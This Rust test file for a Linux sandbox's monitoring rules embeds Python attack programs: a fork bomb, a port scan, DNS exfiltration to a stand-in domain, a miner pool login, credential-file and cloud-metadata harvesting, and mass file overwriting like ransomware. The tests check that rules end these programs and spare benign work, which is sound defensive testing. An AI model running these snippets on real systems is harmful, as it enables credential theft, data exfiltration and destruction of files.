//! Monitoring from the outside: attacks on which rules act, and honest work on which they do not.
//!
//! Each attack goes on for longer than anybody waits, so that a run that ends by its rule was ended by it; how long that took is
//! in the record. What is measured of it is in docs/monitoring.md.

#![cfg(target_os = "linux")]
#![expect(clippy::print_stderr, reason = "what is measured is shown where that is asked for")]
#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

mod support;

use std::io::Read as _;
use std::net::TcpListener;

use serde_json::Value;
use support::{Site, record_of, skip, stderr};

const PYTHON: &str = "/usr/bin/python3";

/// Whether there is what attacks are written in; a counted skip where there is not.
fn has_python() -> bool {
    let is_there = std::path::Path::new(PYTHON).exists();
    if !is_there {
        skip("there is no /usr/bin/python3");
    }
    is_there
}

/// The record of a program in Python under a policy, and what was said meanwhile.
fn run(site: &Site, policy: &str, flags: &[&str], program: &str) -> (Value, String) {
    let file = site.root().join("monitors.toml");
    std::fs::write(&file, policy).unwrap();
    let mut arguments = vec![
        "run",
        "--json",
        "--wall-time",
        "60s",
        "--policy",
        file.to_str().unwrap(),
    ];
    arguments.extend_from_slice(flags);
    arguments.extend_from_slice(&["--", PYTHON, "-I", "-S", "-c", program]);
    let output = site.offleash(arguments).output().unwrap();
    (record_of(&output), stderr(&output))
}

/// A policy in which a built-in rule ends the run.
fn kills(rule: &str) -> String {
    format!("[[monitor]]\nname = \"{rule}\"\naction = \"kill\"\n")
}

/// That `rule` ended the attack, with evidence, in the record and in the audit log.
fn assert_ended_by(site: &Site, (record, said): &(Value, String), rule: &str) {
    assert_eq!(record["outcome"]["kind"], "ended_by_rule", "{record:#}");
    assert_eq!(record["outcome"]["rule"], *rule, "{record:#}");
    assert_eq!(record["exit_code"], 137);
    let alerts = record["alerts"].as_array().unwrap();
    let alert = alerts.iter().find(|alert| alert["rule"] == *rule).unwrap();
    assert!(alert["value"].as_u64() >= alert["threshold"].as_u64(), "{alert:#}");
    assert_eq!(
        (&alert["action"], &alert["not_done"]),
        (&Value::from("kill"), &Value::Null)
    );
    assert!(said.contains(&format!("rule `{rule}` fired: ")), "{said}");
    let lines = site.succeed(["audit", "show"]);
    let told = lines
        .lines()
        .filter(|line| line.contains("alert") && line.contains(rule))
        .count();
    assert_eq!(told, 1, "{lines}");
    if std::env::var_os("OFFLEASH_SHOW_MONITORING").is_some() {
        eprintln!(
            "MEASURED {rule}: {} ms from the request to the end",
            record["usage"]["wall_ms"]
        );
    }
}

/// That an attack under its rule is ended by it.
fn attack(rule: &str, flags: &[&str], program: &str) {
    if !has_python() {
        return;
    }
    let site = Site::new();
    assert_ended_by(&site, &run(&site, &kills(rule), flags, program), rule);
}

#[test]
fn a_fork_storm() {
    let program = "import os\nfor _ in range(3): os.fork()\nwhile True:\n p = os.fork()\n if not p: os._exit(0)\n os.waitpid(p, 0)";
    attack("fork-storm", &[], program);
}

const SCAN: &str = "import socket, time\nfor port in range(1, 60000):\n s = socket.socket(); s.settimeout(1)\n try: \
                    s.connect(('10.0.0.5', port)); s.recv(1)\n except OSError: pass\n s.close()\n time.sleep(0.002)";

#[test]
fn a_port_scan() {
    attack("port-scan", &["--allow", "allowed.example"], SCAN);
}

#[test]
fn a_port_scan_where_there_is_no_network() {
    attack("port-scan", &[], SCAN);
}

#[test]
fn data_in_names_that_are_asked_for() {
    let program = "import base64, os, socket\nwhile True:\n name = base64.b32encode(os.urandom(20)).decode().lower().strip('=')\n try: \
                   socket.getaddrinfo(name + '.t.example.com', 443)\n except OSError: pass";
    attack("dns-exfiltration", &["--allow", "allowed.example"], program);
}

/// A service of this machine that takes whatever is sent; its port.
fn service() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            std::thread::spawn(move || stream.read_to_end(&mut Vec::new()));
        }
    });
    port
}

#[test]
fn data_that_leaves_in_many_small_requests() {
    let port = service().to_string();
    let program = format!(
        "import os, socket, time\nwhile True:\n with socket.create_connection(('127.0.0.1', {port})) as s: s.sendall(os.urandom(64))\n \
         time.sleep(0.005)"
    );
    attack("request-flood", &["--host-port", &port], &program);
}

#[test]
fn a_miner_that_signs_in_to_a_pool() {
    let port = service().to_string();
    let program = format!(
        "import socket\ns = socket.create_connection(('127.0.0.1', {port}))\ns.sendall(b'{{\"id\": 1, \"method\": \
         \"mining.subscribe\", \"params\": []}}\\n')\nwhile True: sum(range(1000))"
    );
    attack("miner", &["--host-port", &port], &program);
}

#[test]
fn a_miner_whose_pool_is_not_allowed() {
    let program = "import socket, time\nwhile True:\n try: socket.create_connection(('10.0.0.5', 14444), 1)\n except OSError: pass\n \
                   time.sleep(0.05)";
    attack("miner", &["--allow", "allowed.example"], program);
}

#[test]
fn system_calls_that_are_refused_again_and_again() {
    let program = "import ctypes, time\nc = ctypes.CDLL(None)\nwhile True:\n for _ in range(50): c.mount(b'x', b'/', b'tmpfs', 0, None)\n \
                   time.sleep(0.01)";
    attack("refused-calls", &[], program);
}

/// Looks where credentials are kept, in files, keyrings, other processes and at metadata services of clouds.
fn hunt() -> String {
    // keyctl(KEYCTL_READ, …) and ptrace(PTRACE_ATTACH, …) by their numbers: the C library has no function for the first.
    let (keyctl, ptrace) = if cfg!(target_arch = "x86_64") {
        (250, 101)
    } else {
        (219, 117)
    };
    format!(
        "import ctypes, os, socket, time\nc = ctypes.CDLL(None)\nfiles = ['.ssh/id_ed25519', '.aws/credentials', '.netrc', '.kube/config', \
         '.docker/config.json', '.config/gcloud/credentials.db']\nwhile True:\n for name in files:\n  try: open(os.path.join('/root', \
         name)).read()\n  except OSError: pass\n c.syscall({keyctl}, 11, -3, 0, 0, 0)\n c.syscall({ptrace}, 16, 1, 0, 0)\n for place in \
         ('169.254.169.254', '169.254.170.2', '100.100.100.200', 'metadata.google.internal'):\n  s = socket.socket(); s.settimeout(0.5)\n  \
         try: s.connect((place, 80))\n  except OSError: pass\n  s.close()\n time.sleep(0.1)"
    )
}

#[test]
fn a_search_for_credentials() {
    attack("credential-hunt", &["--allow", "allowed.example"], &hunt());
}

#[test]
fn a_search_for_credentials_where_there_is_no_network() {
    attack("credential-hunt", &[], &hunt());
}

/// A workspace of a person.
fn documents(site: &Site) {
    for number in 0..200 {
        site.write(
            format!("d{}/{number}.txt", number % 5),
            "words of a person, ".repeat(100),
        );
    }
}

#[test]
fn files_that_are_encrypted_one_after_the_other_stay_as_they_are() {
    if !has_python() {
        return;
    }
    let program = "import os, time\nfor top, _, names in sorted(os.walk('.')):\n for name in names:\n  path = os.path.join(top, name)\n  \
                   data = os.urandom(os.path.getsize(path))\n  with open(path, 'wb') as f: f.write(data)\n  time.sleep(0.005)\n\
                   time.sleep(60)";
    // One that is through before anybody looks is looked at when it has ended.
    let quick = program
        .replace("time.sleep(0.005)", "pass")
        .replace("time.sleep(60)", "pass");
    for program in [program, &quick] {
        let site = Site::new();
        documents(&site);
        let policy = format!("{}[filesystem]\nworkspace = \"rw\"\n", kills("mass-overwrite"));
        let ended = run(&site, &policy, &[], program);
        assert_ended_by(&site, &ended, "mass-overwrite");
        let kept = std::fs::read_to_string(site.workspace().join("d0/0.txt")).unwrap();
        assert!(kept.starts_with("words of a person"));
        assert_eq!(ended.0["changes"]["applied"], false, "{:#}", ended.0);
        let evidence = &ended.0["alerts"][0]["evidence"][0];
        assert!(
            evidence.as_str().is_some_and(|path| path.ends_with(".txt")),
            "{evidence}"
        );
    }
}

#[test]
fn what_only_tells_ends_nothing_and_is_told_once() {
    if !has_python() {
        return;
    }
    let site = Site::new();
    let program = "import os\nos.makedirs('.git/hooks')\nopen('.git/hooks/post-commit', 'w').write('x')\nimport ctypes, time\nc = \
                   ctypes.CDLL(None)\nend = time.time() + 2.5\nwhile time.time() < end:\n for _ in range(50): c.mount(b'x', b'/', \
                   b'tmpfs', 0, None)\n time.sleep(0.01)";
    let (record, said) = run(&site, "", &[], program);
    assert_eq!(record["outcome"]["kind"], "exited", "{record:#}");
    let rules: Vec<&str> = record["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| one["rule"].as_str().unwrap())
        .collect();
    assert!(
        rules.contains(&"refused-calls") && rules.contains(&"protected-names"),
        "{record:#}"
    );
    assert_eq!(said.matches("rule `refused-calls` fired").count(), 1, "{said}");
    // What is only logged is not told at the terminal.
    assert!(!said.contains("protected-names"), "{said}");
}

#[test]
fn a_rule_slows_down_what_it_fires_for() {
    if !has_python() {
        return;
    }
    let site = Site::new();
    let policy =
        "[[monitor]]\nname = \"busy\"\nwatch = \"cpu\"\nthreshold = 3\nwindow = \"1s\"\naction = \"throttle\"\n";
    let busy = "import time\nend = time.time() + 4\nwhile time.time() < end: sum(range(1000))";
    let (record, said) = run(&site, policy, &[], busy);
    let alert = &record["alerts"][0];
    let held_by = record["enforced"]["limit.cpus"].as_str();
    if held_by.is_none_or(|how| how.contains("affinity")) {
        // Where nothing bounds processors, that is said.
        assert!(alert["not_done"].is_string(), "{record:#}");
        assert!(said.contains("`throttle` was not done"), "{said}");
        return;
    }
    assert_eq!(alert["not_done"], Value::Null, "{record:#}");
    assert!(said.contains("the sandbox is slowed down"), "{said}");
    let usage = &record["usage"];
    let used_ms = (usage["user_cpu_us"].as_u64().unwrap() + usage["system_cpu_us"].as_u64().unwrap()) / 1000;
    // All of a CPU for a second and a half at most, and a quarter of one afterwards.
    assert!(used_ms < 3000, "{usage:#}");
}

#[test]
fn a_run_cannot_be_paused_by_a_rule_and_is_refused() {
    let site = Site::new();
    let policy = site.write("p.toml", "[[monitor]]\nname = \"miner\"\naction = \"pause\"\n");
    let said = site.refuse(["run", "--policy", policy.to_str().unwrap(), "true"]);
    assert!(
        said.contains("rule `miner` of monitoring has the action `pause`"),
        "{said}"
    );
}

#[test]
fn a_policy_that_came_with_the_workspace_switches_no_rule_off() {
    let site = Site::new();
    site.write("offleash.toml", "[[monitor]]\nname = \"miner\"\naction = \"off\"\n");
    let said = site.refuse(["run", "true"]);
    assert!(said.contains("monitor (`miner`)"), "{said}");
}

/// That honest work ends as it does, and nobody is told of anything.
fn honest(script: &str) {
    let site = Site::new();
    documents(&site);
    let record = site.record(&[], script);
    assert_eq!(record["outcome"]["kind"], "exited", "{record:#}");
    assert_eq!(record["exit_code"], 0, "{record:#}");
    let told: Vec<&Value> = record["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|one| one["action"] != "log")
        .collect();
    assert!(told.is_empty(), "{told:#?}");
}

#[test]
fn honest_work_is_left_alone_archives_and_copies() {
    honest(
        "set -e; for n in 1 2 3 4 5; do cp -r d0 c$n; done; tar -czf all.tgz d0 d1 d2 d3 d4; mkdir out; tar -C out -xzf all.tgz; \
         for f in d0/*; do sed -i s/words/other/ $f; done; rm -r c1 c2; sleep 1.2",
    );
}

#[test]
fn honest_work_is_left_alone_a_compiler() {
    if support::processes::program("cc").is_none() {
        return skip("there is no cc");
    }
    honest(
        "set -e; for n in 1 2 3 4 5 6 7 8; do printf 'int f%s(int x) { return x + %s; }\\n' $n $n > f$n.c; cc -O2 -c f$n.c; done; \
         printf 'int f1(int); int main() { return f1(-1); }\\n' > m.c; cc -o m m.c f*.o; ./m",
    );
}

#[test]
fn honest_work_is_left_alone_a_tree_of_packages_as_npm_writes_it() {
    if !has_python() {
        return;
    }
    // Each package is written elsewhere and renamed, over the one before; then all of it again, as an update does.
    honest(
        "cat > install.py <<'END'\nimport json, os, shutil\nfor version in range(2):\n for package in range(120):\n  staged = \
         f'node_modules/.staging/p{package}'\n  os.makedirs(staged + '/lib')\n  open(staged + '/package.json', \
         'w').write(json.dumps(dict(name=f'p{package}', version=version)))\n  for number in range(8): open(f'{staged}/lib/{number}.js', \
         'w').write('exports.x = 1;\\n' * 40 + str(version))\n  final = f'node_modules/p{package}'\n  shutil.rmtree(final, \
         ignore_errors=True)\n  os.rename(staged, final)\nEND\n/usr/bin/python3 -I -S install.py; tar -cf modules.tar node_modules; sleep 1.2",
    );
}

#[test]
fn honest_work_is_left_alone_training_on_every_processor() {
    if !has_python() {
        return;
    }
    honest(
        "cat > train.py <<'END'\nimport os, random, sys\nchildren = []\nfor worker in range(4):\n pid = os.fork()\n if pid == 0:\n  \
         rows = [[random.random() for _ in range(60)] for _ in range(60)]\n  for _ in range(3): rows = [[sum(a * b for a, b in zip(row, \
         column)) / 60 for column in zip(*rows)] for row in rows]\n  open(f'weights{worker}.bin', 'wb').write(os.urandom(1 << 20))\n  \
         os._exit(0)\n children.append(pid)\nfor pid in children: os.waitpid(pid, 0)\nEND\n/usr/bin/python3 -I -S train.py; sleep 1.2",
    );
}

#[test]
fn honest_work_is_left_alone_a_library_that_looks_for_its_metadata_service() {
    if !has_python() {
        return;
    }
    // As libraries of clouds do where they have been given nothing: a few tries at one place, and then they go on without.
    honest(
        "/usr/bin/python3 -I -S -c \"import socket, time\nfor _ in range(3):\n s = socket.socket(); s.settimeout(1)\n try: \
         s.connect(('169.254.169.254', 80))\n except OSError: pass\n s.close(); time.sleep(0.2)\ntime.sleep(0.6)\"",
    );
}

#[test]
fn honest_work_is_left_alone_a_loop_in_a_shell_and_in_python() {
    honest(
        "i=0; while [ $i -lt 400 ]; do /bin/true; i=$((i+1)); done; if [ -x /usr/bin/python3 ]; then /usr/bin/python3 -c 'sum(x * x \
         for x in range(5000000))'; fi",
    );
}
